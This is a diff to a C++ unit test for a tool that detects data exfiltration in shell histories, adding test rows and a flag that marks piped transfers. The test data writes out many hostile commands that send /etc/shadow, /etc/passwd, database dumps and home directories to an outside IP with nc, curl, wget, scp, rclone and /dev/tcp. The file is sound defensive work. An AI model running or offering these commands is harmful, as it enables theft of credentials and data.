@@ -30,7 +30,7 @@ private slots:
         row("curl -d 'name=x&mail=a@b.example' https://example.org/form", "");
         row("curl -o x.tgz https://example.org/x.tgz", "");
         row("curl --data-raw @x https://example.org/", "");
-        row("mysqldump shop | curl -T - ftp://198.51.100.7/", "curl - -> 198.51.100.7 data");
+        row("mysqldump shop | curl -T - ftp://198.51.100.7/", "curl output of mysqldump -> 198.51.100.7 data");
         row("wget --post-file=/etc/passwd http://198.51.100.7/", "wget /etc/passwd -> 198.51.100.7 data");
         row("wget http://example.org/x.tgz", "");
         row("scp -P 2222 /root/shop.sql eve@198.51.100.7:/tmp/", "scp /root/shop.sql -> 198.51.100.7 data");
@@ -42,16 +42,20 @@ private slots:
         row("rsync -a /var/lib/mysql/ rsync://198.51.100.7/in/", "rsync /var/lib/mysql/ -> 198.51.100.7 data");
         row("rclone copy /srv/customers.zip mega:x", "rclone /srv/customers.zip -> rclone mega: data");
         row("rclone copy mega:x /srv", "");
+        row("rclone copy /tmp/shop.sql :sftp,host=198.51.100.77,user=up:x", "rclone /tmp/shop.sql -> 198.51.100.77 data");
+        row("rclone copy /tmp/shop.sql :s3,env_auth:bucket", "rclone /tmp/shop.sql -> rclone :s3: data");
+        row("openssl enc -aes-256-cbc -k pw -in /tmp/shop.sql | nc 198.51.100.77 4444", "nc output of openssl /tmp/shop.sql -> 198.51.100.77 raw data");
+        row("sudo tar czf - /home | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
         row("aws s3 cp dump.sql.gz s3://bucket/a/b", "aws dump.sql.gz -> s3://bucket data");
         row("aws s3 cp s3://bucket/a .", "");
         row("nc 198.51.100.7 4444 < /etc/shadow", "nc /etc/shadow -> 198.51.100.7 raw data");
-        row("tar czf - /home | nc -q 1 198.51.100.7 4444", "nc tar /home -> 198.51.100.7 raw data");
-        row("tar cf - /home | gzip | base64 | nc 198.51.100.7 4444", "nc tar /home -> 198.51.100.7 raw data");
+        row("tar czf - /home | nc -q 1 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
+        row("tar cf - /home | gzip | base64 | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
         row("nc -lvp 4444 < x.tgz", "");
         row("echo QUIT | nc mail.example.org 25", "");
         row("cat /etc/passwd > /dev/tcp/198.51.100.7/80", "/dev/tcp /etc/passwd -> 198.51.100.7 raw data");
         row("exec 3<>/dev/tcp/198.51.100.7/80", "");
-        row("pg_dumpall | ssh eve@198.51.100.7 'cat > x'", "ssh pg_dumpall -> 198.51.100.7 data");
+        row("pg_dumpall | ssh eve@198.51.100.7 'cat > x'", "ssh output of pg_dumpall -> 198.51.100.7 data");
         row("openssl s_client -quiet -connect 198.51.100.7:443 < dump.sql", "openssl dump.sql -> 198.51.100.7 raw data");
         row("openssl s_client -connect example.org:443 < /dev/null", "");
         row("lftp -e 'put shop.sql; bye' -u a,b ftp.example.org", "lftp shop.sql -> ftp.example.org data");
@@ -70,6 +74,7 @@ private slots:
         QString got;
         if (transfer) {
             got = QString::fromStdString(transfer->program);
+            if (transfer->piped) got += " output of";
             for (const auto& what : transfer->what) got += " " + QString::fromStdString(what);
             got += " -> " + QString::fromStdString(transfer->target);
             if (transfer->means == exfiltration::Means::raw) got += " raw";
@@ -104,6 +109,7 @@ private slots:
             got += QStringLiteral("%1 %2 %3").arg(QString::fromStdString(f.subject)).arg(f.severity).arg(f.confidence);
             QCOMPARE(f.rule, std::string("exfiltration/sent"));
             QCOMPARE(f.first_s.value_or(0), k_start);
+            QVERIFY(f.arguments.contains("written"));  // a history without times: the finding says whose time it tells
             QCOMPARE(f.items.at(0).path, spec.path);
             QCOMPARE(f.items.at(0).line.value_or(0), std::int64_t{1});
         }
@@ -118,6 +124,7 @@ private slots:
         QCOMPARE(findings.size(), std::size_t{1});
         QCOMPARE(findings[0].items.at(0).key, std::string("deploy"));
         QCOMPARE(findings[0].arguments.value("what", ""), std::string("/root/shop.sql"));
+        QVERIFY(!findings[0].arguments.contains("written"));
     }
 
     void downloads_data() {
